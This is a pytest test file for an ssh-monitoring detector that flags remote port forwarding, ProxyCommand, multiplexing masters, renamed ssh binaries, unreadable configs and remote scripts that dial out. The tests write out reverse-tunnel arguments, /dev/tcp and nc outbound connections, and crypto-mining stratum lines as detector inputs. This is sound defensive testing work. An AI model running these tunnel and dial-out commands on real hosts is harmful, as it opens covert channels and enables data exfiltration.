"""ssh as a capability: identity by binary, options as ssh reads them, config files it
will use — checked on real processes (a copy of the ssh binary under another name)."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from bastion.analysis.ssh import (
    SshExecDetector,
    client_identity,
    config_features,
    option_features,
    remote_command,
    remote_egress,
)
from bastion.events import Event, EventKind

SSH = shutil.which("ssh")


@pytest.mark.parametrize("argv,features", [
    (["ssh", "-fNR", "9000:localhost:22", "x@h"], ["ssh_forward_remote"]),
    (["x", "-o", "remoteforward 9000 localhost:22", "x@h"], ["ssh_forward_remote"]),
    (["x", "-oRemoteForward=9000:localhost:22", "h"], ["ssh_forward_remote"]),
    (["ssh", "alice@h", "-D", "1080"], ["ssh_forward_dynamic"]),
    (["ssh", "-o", "ProxyCommand=openssl s_client -connect r:8443", "h"], ["ssh_proxy_command"]),
    (["ssh", "-o", "proxycommand none", "h", "ls", "-R"], []),
    (["ssh", "h", "grep", "-R", "x"], []),  # the remote command's options are not ssh's
    (["ssh", "-A", "-X", "h", "uptime"], []),
])
def test_options_read_as_ssh_reads_them(argv: list[str], features: list[str]) -> None:
    assert option_features(argv)[0] == features


def test_config_files_and_includes(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text(
        "Host relay\n  HostName relay.allowed.lab.test\n  Include extra.conf\n")
    (tmp_path / "extra.conf").write_text("  remoteforward=9000 localhost:22\n"
                                         "  GatewayPorts no\n")

    def read(path: str) -> str | None:
        try:
            return Path(path).read_text()
        except OSError:
            return None

    assert option_features(["ssh", "-F", "notes.txt", "relay"])[1] == ["notes.txt"]
    assert config_features(read, str(tmp_path / "notes.txt")) == ["ssh_forward_remote"]
    assert config_features(read, str(tmp_path / "missing")) == []


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_a_renamed_copy_is_still_ssh(tmp_path: Path) -> None:
    assert SSH is not None
    copy = tmp_path / "helper"
    shutil.copy(SSH, copy)
    sleeper = subprocess.Popen(["sleep", "5"])  # not ssh, whatever it is called
    try:
        assert client_identity(sleeper.pid) is None
    finally:
        sleeper.kill()
        sleeper.wait()
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    runner = subprocess.Popen([str(copy), "-F", str(fifo), "x"], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)  # blocks opening the fifo
    try:
        assert client_identity(runner.pid) == "ssh"
        event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
            "proc.name": "helper", "proc.args": ["helper", "-o", "REMOTEFORWARD 9000 x:22",
                                                 "x"], "proc.cwd": str(tmp_path)})
        found = SshExecDetector().observe(event)
        assert found and found[0].rule_id == "tunnels.ssh_forward_exec"
        assert "renamed" in found[0].message and "ssh_forward_remote" in found[0].message
        plain = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
            "proc.name": "ssh", "proc.args": ["ssh", "x", "uptime"], "proc.cwd": "/"})
        assert SshExecDetector().observe(plain) == []
    finally:
        runner.kill()
        runner.wait()


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_config_given_as_stdin_is_read_from_the_process(tmp_path: Path) -> None:
    assert SSH is not None
    config = tmp_path / "cfg"
    config.write_text("Host r\n  HostName 203.0.113.66\n  RemoteForward 9103 localhost:22\n")
    # a proxy command that never answers keeps ssh alive, waiting for the banner
    with open(config) as stdin:
        runner = subprocess.Popen([SSH, "-F", "/dev/stdin", "-o", "ProxyCommand=sleep 30",
                                   "r"], stdin=stdin, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
    try:
        event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
            "proc.name": "ssh", "proc.args": ["ssh", "-F", "/dev/stdin", "r"], "proc.cwd": "/"})
        found = SshExecDetector().observe(event)
        assert found and "ssh_forward_remote" in found[0].message
    finally:
        runner.kill()
        runner.wait()


@pytest.mark.parametrize("argv,features", [
    (["ssh", "-M", "-S", "/tmp/cm", "-f", "h", "sleep 40"], ["ssh_control_master"]),
    (["ssh", "-fMN", "h"], ["ssh_control_master"]),
    (["ssh", "-o", "ControlMaster=auto", "-o", "ControlPersist=60", "h"], ["ssh_control_master"]),
    (["ssh", "-o", "controlmaster no", "-S", "/tmp/cm", "h", "true"], []),  # a mux client
    (["ssh", "-S", "/tmp/cm", "h", "uptime"], []),
    (["ssh", "-o", "EnableEscapeCommandline=yes", "-t", "h"], ["ssh_escape_commandline"]),
])
def test_a_multiplexing_master_is_a_forwarding_capability(argv: list[str],
                                                          features: list[str]) -> None:
    """A master's control socket takes forward requests from any process that reaches
    it, later, with no exec and no connection to see: the master itself is judged."""
    assert option_features(argv)[0] == features


@pytest.mark.parametrize("argv,command", [
    (["ssh", "h"], None),
    (["ssh", "-p", "22", "h", "ls", "-R"], "ls -R"),
    (["ssh", "h", "-R", "1:x:2", "uptime"], "uptime"),
    (["ssh", "--", "h", "echo", "hi"], "echo hi"),
])
def test_remote_command_is_what_the_remote_shell_runs(argv: list[str],
                                                      command: str | None) -> None:
    assert remote_command(argv) == command


def test_remote_commands_that_dial_out_are_told_from_ordinary_ones() -> None:
    stratum = '{"id":1,"method":"mining.subscribe","params":[]}'
    for dialing in [f"exec 3<>/dev/tcp/203.0.113.33/3333; printf '{stratum}\\n' >&3",
                    "nc 203.0.113.33 3333 < /tmp/job",
                    "python3 -c \"import socket; socket.create_connection(('203.0.113.33', 3333))\"",
                    f"printf '{stratum}' | cat",
                    "./worker -o stratum+tcp://203.0.113.33:3333"]:
        assert remote_egress(dialing), dialing
    for honest in ["uptime", "ls -la /srv && make -C /srv test", "git -C repo pull --ff-only",
                   "cat /etc/os-release", "tail -n 50 /var/log/app.log"]:
        assert remote_egress(honest) == [], honest


def _wait_started(pid: int) -> None:
    from tests.conftest import wait_for

    assert wait_for(lambda: client_identity(pid) == "ssh", timeout=10)


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_config_from_a_pipe_or_fifo_is_refused_not_skipped(tmp_path: Path) -> None:
    """``cat cfg | ssh -F /dev/stdin``: the bytes in the pipe cannot be read without
    taking them from ssh, so the config is unjudgeable: a verdict (fail closed). A FIFO
    named with -F is the same, and judging it must not block."""
    assert SSH is not None
    runner = subprocess.Popen([SSH, "-F", "/dev/stdin", "-o", "ProxyCommand=sleep 30", "r"],
                              stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    try:
        _wait_started(runner.pid)
        for config in ("/dev/stdin", str(fifo)):
            event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
                "proc.name": "ssh", "proc.args": ["ssh", "-F", config, "r"], "proc.cwd": "/"})
            found = SshExecDetector().observe(event)
            assert found and "ssh_config_unreadable" in found[0].message, config
    finally:
        runner.kill()
        runner.wait()


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_include_written_after_exec_is_read_when_the_connection_arrives(tmp_path: Path) -> None:
    """The Include target does not exist at exec (nothing to flag then); ssh reads its
    config before it connects, so when its connection reaches the gateway the file is
    there and is judged: the verdict lands on the connect the gateway waits on. The
    connection's socket belongs to the ProxyCommand child here: its parent is judged."""
    assert SSH is not None
    config = tmp_path / "cfg"
    late = tmp_path / "late.conf"
    config.write_text(f"Host r\n  HostName 203.0.113.66\n  Include {late}\n")
    runner = subprocess.Popen([SSH, "-F", str(config), "-o", "ProxyCommand=sleep 30", "r"],
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    try:
        _wait_started(runner.pid)
        exec_event = Event(kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
            "proc.name": "ssh", "proc.args": ["ssh", "-F", str(config), "r"],
            "proc.cwd": str(tmp_path)})
        detector = SshExecDetector()
        assert detector.observe(exec_event) == []  # nothing to see yet
        late.write_text("  RemoteForward 9000 localhost:22\n")
        from tests.conftest import wait_for

        # the ProxyCommand child once it runs its command (a socket is its own only
        # then; judged mid-exec its identity and command line would disagree)
        assert wait_for(lambda: [c for c in _children(runner.pid)
                                 if client_identity(c) is None])
        child = _children(runner.pid)[0]
        connect = Event(kind=EventKind.NET_CONNECT, session_id="s", pid=child, fields={
            "net.app": "ssh", "net.decision": "allow", "net.dst_ip": "203.0.113.66",
            "net.dst_port": 22, "net.ssh_banner": "SSH-2.0-OpenSSH_9.2p1"})
        found = detector.observe(connect)
        assert found and found[0].rule_id == "tunnels.ssh_forward_exec"
        assert "ssh_forward_remote" in found[0].message
        assert found[0].evidence["connection"] == "203.0.113.66:22"
        # a denied connection, or one that is not SSH, is not this detector's
        assert detector.observe(Event(kind=EventKind.NET_CONNECT, session_id="s", pid=child,
                                      fields={**connect.fields, "net.decision": "deny"})) == []
    finally:
        runner.kill()
        runner.wait()


def test_ssh_spoken_by_an_unknown_client_is_reported() -> None:
    sleeper = subprocess.Popen(["sleep", "5"])
    try:
        found = SshExecDetector().observe(Event(
            kind=EventKind.NET_CONNECT, session_id="s", pid=sleeper.pid, fields={
                "net.app": "ssh", "net.decision": "allow", "net.dst_ip": "203.0.113.66",
                "net.dst_port": 22}))
        assert [(f.rule_id, f.severity.name) for f in found] == [
            ("tunnels.ssh_unvetted_client", "MEDIUM")]
    finally:
        sleeper.kill()
        sleeper.wait()


def _children(pid: int) -> list[int]:
    try:
        text = Path(f"/proc/{pid}/task/{pid}/children").read_text()
    except OSError:
        return []
    return [int(x) for x in text.split()]


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_a_script_fed_to_the_remote_shell_on_stdin(tmp_path: Path) -> None:
    """``ssh host < dial.sh`` (the remote login shell runs it), ``ssh host bash -s <
    dial.sh`` or ``cat dial.sh | ssh host bash``: a file is read, a pipe copied with
    tee(2), and judged like a remote command: the same verdict."""
    assert SSH is not None
    dial = "exec 3<>/dev/tcp/203.0.113.33/3333\nprintf 'x' >&3\n"
    script = tmp_path / "dial.sh"
    script.write_text(dial)
    honest = tmp_path / "setup.sh"
    honest.write_text("cd /srv && make test\n")
    cases = [(script, ["r"], "tunnels.ssh_remote_egress"),
             (script, ["r", "bash", "-s"], "tunnels.ssh_remote_egress"),
             (honest, ["r"], None),
             (script, ["r", "git-upload-pack", "'repo'"], None),  # not a stdin reader
             (dial, ["r", "bash"], "tunnels.ssh_remote_egress"),  # a pipe, writer done
             ("cd /srv && make\n", ["r", "bash"], None),
             (None, ["r", "uptime"], None)]
    for source, words, rule in cases:
        piped = isinstance(source, str)
        stdin = (subprocess.PIPE if piped or source is None
                 else open(source))  # noqa: SIM115
        runner = subprocess.Popen([SSH, "-o", "ProxyCommand=sleep 30", *words], stdin=stdin,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            if piped:
                assert runner.stdin is not None
                runner.stdin.write(str(source).encode())
                runner.stdin.close()  # the writer is done: the pipe holds the whole script
            _wait_started(runner.pid)
            found = SshExecDetector().observe(Event(
                kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
                    "proc.name": "ssh", "proc.args": ["ssh", *words], "proc.cwd": "/"}))
            assert [f.rule_id for f in found] == ([rule] if rule else []), (source, words)
            if rule:
                assert found[0].severity.name == "HIGH"
                assert "stdin script: devtcp" in found[0].message
        finally:
            runner.kill()
            runner.wait()
            if not piped and source is not None:
                stdin.close()  # type: ignore[union-attr]


@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
def test_a_pipe_still_being_written_is_judged_on_what_it_holds() -> None:
    """A writer still holding the pipe: more may come. What is there already is judged
    (a dial in it: the verdict at once); a clean start is reported when the connection
    is judged (medium: the rest cannot be read), not at the exec (the writer is usually
    done by then). The script is copied, never taken: ssh still reads every byte."""
    assert SSH is not None
    connect = {"net.decision": "allow", "net.app": "ssh", "net.dst_ip": "203.0.113.33",
               "net.dst_port": 22}
    for head, done, exec_rules, connect_rules in (
            ("exec 3<>/dev/tcp/203.0.113.33/3333\n", False, ["tunnels.ssh_remote_egress"],
             ["tunnels.ssh_remote_egress"]),
            ("echo provisioning\n", False, [], ["tunnels.ssh_remote_stdin"]),
            # the writer closed its end: the script is whole, judged clean, not reported
            ("echo provisioning\n", True, [], [])):
        runner = subprocess.Popen([SSH, "-o", "ProxyCommand=sleep 30", "r", "bash"],
                                  stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL)
        try:
            assert runner.stdin is not None
            runner.stdin.write(head.encode())
            runner.stdin.flush()  # written; the write end still open here unless done
            if done:
                runner.stdin.close()
            _wait_started(runner.pid)
            detector = SshExecDetector()
            at_exec = detector.observe(Event(
                kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
                    "proc.name": "ssh", "proc.args": ["ssh", "r", "bash"], "proc.cwd": "/"}))
            assert [f.rule_id for f in at_exec] == exec_rules, head
            at_connect = detector.observe(Event(
                kind=EventKind.NET_CONNECT, session_id="s", pid=runner.pid, fields=connect))
            # (the ProxyCommand this test needs is a finding of its own at the connect)
            remote = [f for f in at_connect if f.rule_id.startswith("tunnels.ssh_remote")]
            assert [f.rule_id for f in remote] == connect_rules, head
            if connect_rules == ["tunnels.ssh_remote_stdin"]:
                assert remote[0].severity.name == "MEDIUM"
            # nothing was taken from ssh's stdin
            with open(f"/proc/{runner.pid}/fd/0", "rb", buffering=0) as pipe:
                os.set_blocking(pipe.fileno(), False)
                assert pipe.read(4096) == head.encode()
        finally:
            runner.kill()
            runner.wait()
            runner.stdin.close()  # type: ignore[union-attr]
